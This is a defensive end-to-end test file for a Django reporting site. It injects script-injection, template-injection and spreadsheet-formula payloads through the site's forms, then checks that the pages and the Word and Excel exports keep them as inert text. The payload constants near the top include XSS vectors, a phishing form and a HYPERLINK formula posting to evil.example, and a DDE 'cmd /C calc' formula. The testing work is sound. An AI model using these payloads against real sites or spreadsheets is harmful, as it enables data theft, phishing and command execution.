"""Script injection, end to end: payloads go in through the real forms (the section editor's save and
autosave, the appendix grid, comments, document details, the review's reasons and answers), then
the pages are opened in Chromium and the exports are built.

In the pages nothing of a payload may run or take over: no script sets window.__pwned, no dialog
opens, no element a payload carries (iframe, style, form, image, a javascript: link, a full-screen
overlay) exists, the site's own header and buttons stay visible and clickable, and comments show
the payload as the literal text it was. In the Word file user text is text (no field, hyperlink,
external relationship or macro part); in the Excel files user text is a string cell, never a
formula, whatever it starts with (= + - @). The site's own formulas are the only ones."""

import io
import re
import zipfile
from html import unescape

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from exports.docx import build_consolidated_docx, build_report_docx
from exports.selectors import consolidated, report_document
from exports.xlsx import build_consolidated_xlsx, build_report_xlsx
from reports.forms import cell_name
from reports.models import Report, ReportStatus, ReturnItem
from tests.conftest import build_world
from tests.exports.dashboard_files import dashboard_workbook
from tests.indicators.factories import make_catalogue
from units.models import Unit

pytestmark = [pytest.mark.e2e, pytest.mark.engine_independent, pytest.mark.django_db(transaction=True)]

PWN = "window.__pwned=1"
SCRIPT = f"<script>{PWN}</script>"
IMG = f'<img src=x onerror="{PWN}">'
IMG_ALERT = "<img src=x onerror=alert(1)>"
SVG = f"<svg onload={PWN}>"
JS_URL = f"javascript:{PWN}"
JS_LINK = f'<a href="javascript:{PWN}">bấm vào đây</a>'
BREAKOUT = f'"><script>{PWN}</script>'
QUOTE_BREAKOUT = "'><img src=x onerror=alert(1)>"
STYLE = "<style>body{display:none}</style>"
IFRAME = '<iframe src="https://evil.example/"></iframe>'
FORM = '<form action="https://evil.example/steal"><input name="mat_khau"><button>Gửi lại</button></form>'
OVERLAY = (
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff;z-index:99999">'
    "Trang đang bảo trì</div>"
)
TEMPLATE = "{{ 7*7 }} {% now 'Y' %}"
HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A1,"Bấm")'
DDE = "=cmd|' /C calc'!A0"
FORMULAS = [HYPERLINK, DDE, "+SUM(1)", "@SUM(1)", "-1+1"]
MARKUP = [SCRIPT, IMG, IMG_ALERT, SVG, JS_LINK, BREAKOUT, QUOTE_BREAKOUT, STYLE, IFRAME, FORM, OVERLAY]
EVERYTHING = [*MARKUP, JS_URL, TEMPLATE, *FORMULAS]
SECTION_HTML = (
    "<p>Mở đầu.</p>"
    + "".join(MARKUP)
    + f'<p onclick="{PWN}" style="position:fixed;inset:0">Đoạn có thuộc tính</p>'
    + f"<p>{TEMPLATE}</p>"
    + "".join(f"<p>{f}</p>" for f in FORMULAS)
    + f"<p>{JS_URL}</p>"
    + '<table><tr><td colspan="2" style="position:fixed">Bảng</td></tr></table>'
)


def xlsx_cells(data):
    workbook = load_workbook(io.BytesIO(data))
    for ws in workbook.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield ws.title, cell


def client_for(user):
    client = Client()
    client.force_login(user)
    return client


def ok(response, *codes):
    assert response.status_code in (codes or (200, 302)), (response.status_code, response.content[:500])
    return response


def inject(world):
    """Every payload through the site's own forms, as the drafter and the reviewer would send them."""
    report = world.report_a
    cat = make_catalogue(report.round.outline_version)
    drafter, reviewer = client_for(world.drafter_a), client_for(world.reviewer)
    pk = report.pk

    # The editor: a normal save of the first section, an autosave of the second.
    ok(
        drafter.post(
            reverse("reports:section_edit", args=[pk, "p1.II.1"]),
            {"content": SECTION_HTML, "version": 0, "is_done": "on", "go": "stay"},
        ),
        302,
    )
    ok(
        drafter.post(
            reverse("reports:section_edit", args=[pk, "p1.II.2"]),
            {"content": "<p>Phần hai.</p>" + "".join(EVERYTHING), "version": 0, "is_done": "on"},
            headers={"X-Autosave": "1"},
        ),
        200,
    )
    # The grid: figures (one with a warning to explain), payloads as notes, explanations and figures.
    grid = {
        "version": 0,
        cell_name(cat["CNVCLD"].pk, "2020"): "2000",
        cell_name(cat["DV"].pk, "start"): "100",
        cell_name(cat["DV"].pk, "2020"): "1250",
        cell_name(cat["NU"].pk, "2019"): SCRIPT,
        cell_name(cat["DV_MOI"].pk, "2019"): HYPERLINK[:60],
        cell_name(cat["THU_NHAP"].pk, "2019"): "-1+1",
        f"note-{cat['DV'].pk}": HYPERLINK,
        f"expl-{cat['DV'].pk}": IFRAME + OVERLAY,
        f"note-{cat['CNVCLD'].pk}": DDE,
        f"note-{cat['NU'].pk}": "@SUM(1)",
        f"note-{cat['DV_MOI'].pk}": "+SUM(1)",
        f"note-{cat['THU_NHAP'].pk}": "-1+1",
        f"note-{cat['TL_HOC'].pk}": SCRIPT + IMG_ALERT,
    }
    saved = ok(drafter.post(reverse("reports:appendix_edit", args=[pk]), grid, headers={"X-Autosave": "1"}), 200)
    assert set(saved.json()["errors"]) == {
        cell_name(cat["NU"].pk, "2019"),
        cell_name(cat["DV_MOI"].pk, "2019"),
        cell_name(cat["THU_NHAP"].pk, "2019"),
    }
    # The document's details.
    ok(
        drafter.post(
            reverse("reports:document_info", args=[pk]),
            {
                "doc_number": BREAKOUT,
                "place": SVG,
                "signer_name": IMG,
                "signer_title": DDE,
                "recipients": "\n".join([HYPERLINK, "+SUM(1)", "@SUM(1)", "-1+1", SCRIPT]),
            },
        ),
        302,
    )
    # Submitted, approved, the approval withdrawn with a reason, returned with reasons.
    ok(drafter.post(reverse("reports:report_submit", args=[pk])), 302)
    ok(reviewer.post(reverse("reports:report_approve", args=[pk])), 302)
    ok(reviewer.post(reverse("reports:report_unapprove", args=[pk]), {"reason": OVERLAY + SCRIPT}), 302)
    returned = {
        "note": TEMPLATE + BREAKOUT,
        "tick_p1.II.1": "on",
        "reason_p1.II.1": IFRAME + FORM,
        "tick_p1.II.2": "on",
        "reason_p1.II.2": HYPERLINK,
    }
    ok(reviewer.post(reverse("reports:report_return", args=[pk]), returned), 302)
    assert Report.objects.get(pk=pk).status == ReportStatus.RETURNED
    # Comments on the report, a section and a figure; an internal note; the unit's reply.
    for anchor, body in (("report", SCRIPT), ("section:p1.II.1", OVERLAY), ("indicator:DV", HYPERLINK)):
        ok(reviewer.post(reverse("reports:comment_post", args=[pk]), {"anchor": anchor, "body": body}), 302)
    ok(
        reviewer.post(
            reverse("reports:comment_post", args=[pk]),
            {"anchor": "report", "body": STYLE + TEMPLATE, "visibility": "internal"},
        ),
        302,
    )
    thread = report.comments.get(body=SCRIPT)
    ok(
        drafter.post(
            reverse("reports:comment_post", args=[pk]),
            {"anchor": "report", "body": IMG_ALERT + JS_URL, "parent": thread.pk, "next": JS_URL},
        ),
        302,
    )
    # The unit answers the return and asks for more time; the reviewer refuses with a reason.
    for item in ReturnItem.objects.filter(request__report=report):
        ok(drafter.post(reverse("reports:return_answer", args=[pk, item.pk]), {"answer": QUOTE_BREAKOUT + DDE}), 302)
    ok(drafter.post(reverse("reports:extension_request", args=[pk]), {"reason": SVG + FORM}), 302)
    request = report.extensions.get()
    ok(
        reviewer.post(
            reverse("reports:extension_decide", args=[pk]),
            {"request": request.pk, "decision": "refuse", "note": JS_LINK + "-1+1"},
        ),
        302,
    )
    # A unit whose name and code an administrator typed as formulas (the dashboard, the roll-up).
    Unit.objects.filter(pk=world.unit_b.pk).update(name=HYPERLINK, code="-1+1")
    return cat


# What no page may contain in the end, wherever user text goes.
FOREIGN = [
    "iframe",
    "object",
    "embed",
    "frame",
    "body style",
    "main script",
    "img[src='x']",
    # The site draws its charts (svg.chart) and the editor's toolbar icons; nothing else is SVG.
    "svg:not(.chart):not(.prose-menubar svg)",
    "form[action*='evil']",
    "a[href^='javascript:' i]",
    "[onerror]",
    "[onload]",
    "[onclick]",
    "meta[http-equiv]",
    "base",
    "main [style*='fixed']",
]


def assert_inert(page, dialogs, where, *, literal=()):
    assert page.evaluate("typeof window.__pwned") == "undefined", f"a payload ran on {where}"
    assert dialogs == [], f"a dialog opened on {where}: {dialogs}"
    for selector in FOREIGN:
        found = page.locator(selector)
        assert found.count() == 0, f"{where}: {selector} → {found.first.evaluate('e => e.outerHTML.slice(0, 200)')}"
    fixed = page.evaluate(
        """() => [...document.querySelectorAll("main *")]
                  .filter((e) => getComputedStyle(e).position === "fixed")
                  .map((e) => e.outerHTML.slice(0, 120))"""
    )
    assert fixed == [], f"{where}: fixed-position elements in the page {fixed}"
    assert page.evaluate("getComputedStyle(document.body).display") != "none", where
    # The site's own header and its buttons are there, visible and not covered by anything.
    for control in (page.locator("a.navbar-brand"), page.get_by_role("button", name="Đăng xuất")):
        assert control.is_visible(), f"{where}: {control} hidden"
        control.click(trial=True, timeout=3000)  # actionable: visible, enabled, receives the click
    text = page.locator("main").inner_text()
    for words in literal:
        assert words in text, f"{where}: {words!r} is not shown as text"


def open_page(page, dialogs, url, where, **checks):
    dialogs.clear()
    response = page.goto(url)
    assert response.status == 200, (where, response.status)
    page.wait_for_load_state("networkidle")
    assert_inert(page, dialogs, where, **checks)


def log_in(context, live_server, user):
    context.clear_cookies()
    page = context.new_page()
    page.goto(live_server.url + reverse("login"))
    page.get_by_label("Tên đăng nhập").fill(user.username)
    page.get_by_label("Mật khẩu").fill("mat-khau-thu")
    page.get_by_role("button", name="Đăng nhập").click()
    page.wait_for_load_state()
    return page


@pytest.fixture
def desktop(browser):
    """A desktop-wide window (the menu and its "Đăng xuất" button in view), listening for dialogs
    and console errors: an injected <img src=x> would show as a failed load, a blocked inline
    script as a Content-Security-Policy error."""
    context = browser.new_context(viewport={"width": 1280, "height": 900}, locale="vi-VN")
    context.set_default_timeout(15_000)
    context.dialogs, context.errors = [], []

    def watch(page):
        page.on("dialog", lambda dialog: (context.dialogs.append(dialog.message), dialog.dismiss()))
        page.on("pageerror", lambda exc: context.errors.append(str(exc)))
        page.on("console", lambda msg: context.errors.append(msg.text) if msg.type == "error" else None)

    context.on("page", watch)
    yield context
    context.close()


def test_payloads_stay_inert_in_every_page(live_server, desktop):
    world = build_world(sections=2)
    inject(world)
    report = world.report_a
    pk, url = report.pk, live_server.url
    dialogs = desktop.dialogs

    # The unit's drafter: the report, the editor holding the payloads, the grid, the details.
    page = log_in(desktop, live_server, world.drafter_a)
    open_page(page, dialogs, url + reverse("reports:report_detail", args=[pk]), "report page")
    open_page(page, dialogs, url + reverse("reports:section_edit", args=[pk, "p1.II.1"]), "section editor")
    editor = page.locator(".ProseMirror")
    assert "{{ 7*7 }}" in editor.inner_text() and HYPERLINK in editor.inner_text()
    assert editor.locator("img, iframe, style, form, svg, a, script").count() == 0
    # The real autosave from the editor's page: the browser posts what a paste of the payloads gives.
    saved = page.evaluate(
        """async (html) => {
            const form = document.getElementById("section-form");
            const data = new FormData(form);
            data.set("content", html);
            const response = await fetch(form.dataset.autosaveUrl, {
                method: "POST", body: data, credentials: "same-origin",
                headers: { "X-Autosave": "1", "Accept": "application/json" },
            });
            return response.status;
        }""",
        SECTION_HTML + SCRIPT,
    )
    assert saved in (200, 409)
    open_page(page, dialogs, url + reverse("reports:section_edit", args=[pk, "p1.II.2"]), "second section")
    open_page(page, dialogs, url + reverse("reports:appendix_edit", args=[pk]), "appendix grid")
    # Payloads typed into the grid and saved without the script's help: the page comes back with
    # them in the boxes (and errors for the figures), as text.
    page.locator(f"input[name='{cell_name(_id(report, 'CNVCLD'), '2019')}']").fill(BREAKOUT)
    page.locator(f"input[name='{cell_name(_id(report, 'DV'), 'prev')}']").fill(QUOTE_BREAKOUT)
    page.locator(f"input[name='note-{_id(report, 'NU')}']").fill(OVERLAY[:2000])
    dialogs.clear()
    page.locator("#appendix-form button[type=submit]").click()
    page.wait_for_load_state("networkidle")
    assert_inert(page, dialogs, "appendix grid after saving payloads")
    assert page.locator(f"input[name='{cell_name(_id(report, 'CNVCLD'), '2019')}']").input_value() == BREAKOUT
    open_page(page, dialogs, url + reverse("reports:document_info", args=[pk]), "document details")
    assert page.locator("input[name=doc_number]").input_value() == BREAKOUT
    open_page(page, dialogs, url + reverse("reports:report_history", args=[pk]), "history (drafter)")
    open_page(page, dialogs, url + reverse("reports:notification_list"), "notifications (drafter)")
    open_page(page, dialogs, url + reverse("reports:submission_detail", args=[pk, 1]), "submission")

    # The reviewer: the reading page with every comment, the dashboard, the history.
    page = log_in(desktop, live_server, world.reviewer)
    open_page(
        page,
        dialogs,
        url + reverse("reports:report_read", args=[pk]),
        "review page",
        # Comments as the words typed; the section's "{{ 7*7 }}" as words, not 49.
        literal=[SCRIPT, OVERLAY, HYPERLINK, STYLE + TEMPLATE, IMG_ALERT + JS_URL, TEMPLATE],
    )
    open_page(
        page, dialogs, url + reverse("reports:dashboard", args=[world.round.code]), "dashboard", literal=[HYPERLINK]
    )
    open_page(
        page,
        dialogs,
        url + reverse("reports:dashboard", args=[world.round.code]) + "?q=" + SCRIPT,
        "dashboard search",
    )
    open_page(page, dialogs, url + reverse("reports:report_history", args=[pk]), "history (reviewer)")
    open_page(page, dialogs, url + reverse("reports:notification_list"), "notifications (reviewer)")
    open_page(page, dialogs, url + reverse("reports:rollup", args=[world.round.code, world.superior.code]), "roll-up")
    # The drafter resubmits; the reviewer compares the two submissions.
    drafter = client_for(world.drafter_a)
    for item in ReturnItem.objects.filter(request__report=report):
        drafter.post(reverse("reports:return_answer", args=[pk, item.pk]), {"done": "on"})
    ok(drafter.post(reverse("reports:report_submit", args=[pk])), 302)
    assert report.submissions.count() == 2
    open_page(page, dialogs, url + reverse("reports:report_diff", args=[pk]), "changes between submissions")
    assert desktop.errors == [], desktop.errors


def _id(report, code):
    return report.round.outline_version.indicators.get(code=code).pk


W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"


def assert_plain_docx(data, literal):
    """No field, hyperlink, external target, embedded object or macro from user text; the
    payloads are there as the words they were."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        names = archive.namelist()
        assert not [n for n in names if re.search(r"activeX|vbaProject|embeddings|oleObject|\.bin$", n)], names
        assert "macroEnabled" not in archive.read("[Content_Types].xml").decode()
        text = ""
        for name in names:
            if not name.endswith((".xml", ".rels")):
                continue
            xml = archive.read(name).decode()
            assert 'TargetMode="External"' not in xml, name
            # Fields and links are elements (python-docx's own settings name a "hyperlink" colour).
            assert not re.search(r"<w:(instrText|fldChar|hyperlink|object|control)\b", xml), name
            if re.match(r"word/(document|header\d*|footer\d*)\.xml$", name):
                words_removed = re.sub(r"<w:t[^>]*>[^<]*</w:t>", "", xml)
                assert "HYPERLINK" not in words_removed, f"a HYPERLINK field in {name}"
            for instr in re.findall(r'<w:fldSimple w:instr="([^"]*)"', xml):
                assert name.startswith("word/header") and instr.strip() == "PAGE", (name, instr)
            if name == "word/document.xml":
                text = "".join(re.findall(r"<w:t[^>]*>([^<]*)</w:t>", xml))
    text = unescape(text)
    for words in literal:
        assert words in text, f"{words!r} is not in the document as text"
    assert "<script" not in text.lower() or BREAKOUT in text  # only the document number, as words
    return text


def test_exports_keep_payloads_as_text():
    world = build_world(sections=2)
    inject(world)
    report = Report.objects.select_related("round", "unit", "unit__parent").get(pk=world.report_a.pk)

    text = assert_plain_docx(
        build_report_docx(report_document(report)),
        literal=["{{ 7*7 }}", HYPERLINK, DDE, "+SUM(1)", "@SUM(1)", "-1+1", JS_URL, BREAKOUT, SVG, IMG],
    )
    assert DDE.upper() in text  # the signer's position, printed in capitals
    own = Report.objects.select_related("round", "unit").get(round=world.round, unit=world.superior)
    assert_plain_docx(build_consolidated_docx(consolidated(own, include_drafts=True)), literal=["{{ 7*7 }}", HYPERLINK])

    # One report's appendix: notes are strings; formulas only where the site puts its own.
    data = build_report_xlsx(report_document(report))
    ratio_row = None
    notes = {}
    for _sheet, cell in xlsx_cells(data):
        if cell.column == 2 and cell.value == "TL_DV":
            ratio_row = cell.row
        if cell.column == 17 and cell.row > 4:  # the note, after the result and five comparisons
            notes[cell.value] = cell.data_type
    assert {HYPERLINK, DDE, "@SUM(1)", "+SUM(1)", "-1+1"} <= set(notes)
    assert set(notes.values()) == {"s"}, notes
    for sheet, cell in xlsx_cells(data):
        if cell.data_type == "f":
            computed = 11 <= cell.column <= 16 or (cell.row == ratio_row and 5 <= cell.column <= 10)
            assert computed and cell.value.startswith("=IF("), (sheet, cell.coordinate, cell.value)
        elif isinstance(cell.value, str):
            assert cell.data_type == "s", (sheet, cell.coordinate, cell.value)

    # The consolidated workbook: the unit named like a formula stays a name; formulas only in the
    # roll-up sheet, all of them the site's.
    Report.objects.filter(pk=world.report_b.pk).update(status=ReportStatus.SUBMITTED)
    data = build_consolidated_xlsx(consolidated(own))
    names = set()
    for sheet, cell in xlsx_cells(data):
        if cell.data_type == "f":
            assert sheet == "Tổng hợp" and cell.value.startswith("=IF("), (sheet, cell.coordinate, cell.value)
        elif isinstance(cell.value, str):
            assert cell.data_type == "s", (sheet, cell.coordinate, cell.value)
            names.add(cell.value)
    assert {HYPERLINK, "-1+1"} <= names

    # The dashboard's Excel file: no formula at all.
    names = set()
    for sheet, cell in xlsx_cells(dashboard_workbook(client_for(world.reviewer), world.round)):
        assert cell.data_type != "f", (sheet, cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            assert cell.data_type == "s"
            names.add(cell.value)
    assert {HYPERLINK, "-1+1"} <= names
